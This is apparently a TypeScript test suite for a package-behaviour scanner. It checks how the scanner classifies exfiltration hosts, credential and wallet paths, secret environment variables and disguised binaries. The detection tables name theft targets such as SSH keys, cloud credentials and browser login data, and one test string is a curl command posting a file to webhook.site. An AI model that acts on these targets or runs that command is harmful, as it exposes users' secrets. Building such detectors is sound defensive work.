import assert from 'node:assert/strict';
import { opaqueKind } from '../../lib/behavior/opaque.js';
import {
  carried,
  classifyPath,
  classifyText,
  environmentVariable,
  isBase64,
  PACKAGE_ROOT,
  urlQualifiers,
} from '../../lib/behavior/strings.js';
import type { ArtifactFile } from '../../lib/types.js';
import { tar, zip } from '../artifact/build.js';

describe('strings: addresses', () => {
  const cases: readonly [string | undefined, string][] = [
    [undefined, 'to:unknown'],
    ['https://1.2.3.4/x', 'to:ip'],
    ['http://8.8.8.8/', 'to:http to:other'],
    ['http://1.2.3.4:4444/x', 'to:http to:ip to:odd-port'],
    ['http://0x7f000002/', 'to:http to:ip'],
    ['http://[2001:db8::1]/', 'to:http to:ip'],
    ['http://127.0.0.1:9/', 'to:local'],
    ['http://localhost:3000', 'to:local'],
    ['http://192.168.1.4/', 'to:local'],
    ['https://abc.oastify.com/', 'to:catcher'],
    ['https://webhook.site/1', 'to:catcher'],
    ['x.m.pipedream.net', 'to:catcher'],
    ['https://a.ngrok-free.app', 'to:tunnel'],
    ['https://discord.com/api/webhooks/1/x', 'to:webhook'],
    ['https://discord.com/', 'to:other'],
    ['https://api.telegram.org/bot1:x/sendMessage', 'to:webhook'],
    ['https://hooks.slack.com/services/x', 'to:webhook'],
    ['https://pastebin.com/raw/x', 'to:paste'],
    ['https://raw.githubusercontent.com/a/b/c', 'to:paste'],
    ['https://bit.ly/x', 'to:shortener'],
    ['http://me.duckdns.org', 'to:dynamic-dns to:http'],
    ['https://registry.npmjs.org/x', 'to:registry'],
    ['https://files.pythonhosted.org/x', 'to:registry'],
    ['https://github.com/a/b/releases', 'to:release-host'],
    ['https://abcdefgh.onion/', 'to:onion'],
    ['https://user:pw@example.org/x', 'to:other'],
    ['wss://example.org:31337', 'to:odd-port to:other'],
    ['https://notwebhook.site.example.org', 'to:other'],
    // A host that only ends in the letters of a known one is another host.
    ['https://mywebhook.sites.example', 'to:other'],
  ];
  for (const [address, expected] of cases) {
    it(String(address), () => assert.equal(urlQualifiers(address).join(' '), expected));
  }
});

describe('strings: paths', () => {
  const cases: readonly [string, string | undefined][] = [
    ['/home/u/.ssh/id_rsa', 'read-ssh-keys'],
    ['~/.aws/credentials', 'read-cloud-credentials'],
    ['C:\\Users\\u\\.kube\\config', 'read-cloud-credentials'],
    ['/root/.npmrc', 'read-registry-token'],
    ['.git-credentials', 'read-registry-token'],
    ['AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data', 'read-browser-data'],
    ['/Library/Application Support/Exodus/exodus.wallet', 'read-wallet'],
    ['\\discord\\Local Storage\\leveldb', 'read-chat-token'],
    ['/etc/passwd', 'read-system-accounts'],
    ['/home/u/readme.md', undefined],
    ['src/wallets/index.ts', undefined],
    ['cookie-parser', undefined],
    ['./profile.js', undefined],
  ];
  for (const [path, code] of cases) {
    it(path, () => assert.equal(classifyPath(path).code, code));
  }

  it('tells what writing does', () => {
    assert.equal(classifyPath('/home/u/.bashrc').writeCode, 'persist-startup');
    assert.equal(classifyPath('/etc/cron.d/x').writeCode, 'persist-startup');
    assert.equal(
      classifyPath('C:\\Users\\u\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat')
        .writeCode,
      'persist-startup',
    );
    assert.equal(classifyPath('.git/hooks/pre-commit').writeCode, 'modify-git-hooks');
    assert.equal(classifyPath('/project/node_modules/other/index.js').writeCode, 'modify-package');
    assert.equal(classifyPath(`${PACKAGE_ROOT}/dist/out.js`).writeCode, undefined);
  });

  it('tells where a path is', () => {
    assert.deepEqual(classifyPath('/tmp/x.sh').qualifiers, ['path:executable', 'path:temp']);
    assert.deepEqual(classifyPath(`${PACKAGE_ROOT}/a.js`).qualifiers, ['path:own']);
    assert.deepEqual(classifyPath('/project/a.js').qualifiers, ['path:project']);
    assert.deepEqual(classifyPath('/usr/bin/x').qualifiers, ['path:system']);
  });
});

describe('strings: environment', () => {
  const cases: readonly [string, string][] = [
    ['NPM_TOKEN', 'read-env-secret'],
    ['AWS_SECRET_ACCESS_KEY', 'read-env-secret'],
    ['DB_PASSWORD', 'read-env-secret'],
    ['GITHUB_ACTIONS', 'check-ci'],
    ['CI', 'check-ci'],
    ['USERPROFILE', 'read-home'],
    ['USERNAME', 'read-user-name'],
    ['COMPUTERNAME', 'read-host-name'],
    ['LC_ALL', 'check-locale'],
    ['NODE_ENV', 'read-env-variable'],
    ['PWD', 'read-env-variable'],
    ['TOKENIZERS_PARALLELISM', 'read-env-variable'],
  ];
  for (const [name, code] of cases) {
    it(name, () => assert.equal(environmentVariable(name).code, code));
  }
  it('maps labels to qualifiers, and leaves out those that have none', () => {
    assert.deepEqual(carried(new Set(['host', 'assembled', 'env'])), ['carries:env', 'carries:host']);
  });
});

describe('strings: constants', () => {
  const codes = (text: string): string[] => classifyText(text).map((f) => f.code);
  it('sees addresses, base64, long strings', () => {
    assert.deepEqual(codes('https://example.org/x'), ['D3']);
    assert.deepEqual(codes(Buffer.from('The quick brown fox jumps over 13 lazy dogs!').toString('base64')), [
      'E3',
    ]);
    assert.ok(codes('x '.repeat(600)).includes('E4'));
  });
  it('leaves namespaces, words, paths and tables of letters alone', () => {
    for (const text of [
      'http://www.w3.org/2000/svg',
      'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      'node_modules/some-package/dist/index.production.min.js',
      'see https://example.org/docs for more',
      '1.2.3.4',
      'version 10.0.0.1',
    ]) {
      assert.deepEqual(codes(text), [], text);
    }
    assert.ok(!isBase64('thisIsOnlyAVeryLongCamelCaseIdentifierNameInCode'));
  });
  it('sees a catcher in the middle of a text', () => {
    assert.deepEqual(codes('curl -d @x https://webhook.site/abc'), ['D3']);
  });
});

describe('opaque files', () => {
  const file = (path: string, bytes: number[]): ArtifactFile => ({
    path,
    bytes: Uint8Array.from([...bytes, ...new Array<number>(80).fill(0)]),
    executable: false,
  });
  const kind = (f: ArtifactFile, others: string[] = []): string | undefined =>
    opaqueKind(f, new Map(others.map((path) => [path, file(path, [])])));

  it('knows them by their first bytes, whatever their name', () => {
    assert.equal(kind(file('readme.txt', [0x7f, 0x45, 0x4c, 0x46])), 'opaque-native');
    assert.equal(kind(file('a.node', [0xcf, 0xfa, 0xed, 0xfe])), 'opaque-native');
    assert.equal(kind(file('a.wasm', [0, 0x61, 0x73, 0x6d])), 'opaque-wasm');
    assert.equal(kind(file('data.bin', [0x50, 0x4b, 3, 4])), 'opaque-archive');
    const pe = file('x.dat', [0x4d, 0x5a]);
    pe.bytes[60] = 64;
    pe.bytes.set([0x50, 0x45], 64);
    assert.equal(kind(pe), 'opaque-native');
    assert.equal(kind(file('words.txt', [0x4d, 0x5a, 0x41, 0x42])), undefined);
  });

  it('asks for bytecode only where the source is missing or need not be what it says', () => {
    const pyc = file('pkg/__pycache__/a.cpython-311.pyc', [0xa7, 0x0d, 0x0d, 0x0a]);
    assert.equal(kind(pyc), 'opaque-bytecode');
    assert.equal(kind(pyc, ['pkg/a.py']), undefined, 'says another length than the 80 bytes of the source');
    pyc.bytes[12] = 80;
    assert.equal(kind(pyc, ['pkg/a.py']), 'opaque-bytecode', 'says the length of the source');
    pyc.bytes[12] = 0;
    pyc.bytes[4] = 3;
    assert.equal(kind(pyc, ['pkg/a.py']), 'opaque-bytecode', 'bound by a hash of the source');
  });

  it('knows what a machine wrote for itself under any name', () => {
    assert.equal(kind(file('x.dat', [0xa7, 0x0d, 0x0d, 0x0a])), 'opaque-bytecode');
    assert.equal(kind(file('x.dat', [0xe3])), 'opaque-bytecode');
    assert.equal(kind(file('x.dat', [0xcc, 0x05, 0xde, 0xc0])), 'opaque-bytecode');
    assert.equal(kind(file('x.dat', [0x19, 0xda, 0x43, 0x01])), 'opaque-bytecode');
    assert.equal(kind(file('x.txt', [0x41, 0x0d, 0x0d, 0x0a, 0x41])), undefined);
    assert.equal(kind(file('x.dat', [0x63, 0x61, 0x66])), undefined);
  });

  it('knows archives by what stands at their end, and behind a name', () => {
    const whole = (path: string, bytes: Buffer): ArtifactFile => ({ path, bytes, executable: false });
    const archive = zip([{ name: 'a.py', body: 'x = 1' }]);
    const before = Buffer.from('any bytes at all');
    assert.equal(kind(whole('a.png', Buffer.concat([before, archive]))), 'opaque-archive');
    assert.equal(kind(whole('a.png', Buffer.concat([before, archive, before]))), 'opaque-archive');
    assert.equal(kind(whole('a.png', Buffer.concat([before, Buffer.from('PK\x05\x06'), before]))), undefined);
    assert.equal(kind(whole('a.dat', tar([{ name: 'a.py', body: 'x = 1' }]))), 'opaque-archive');
  });
});
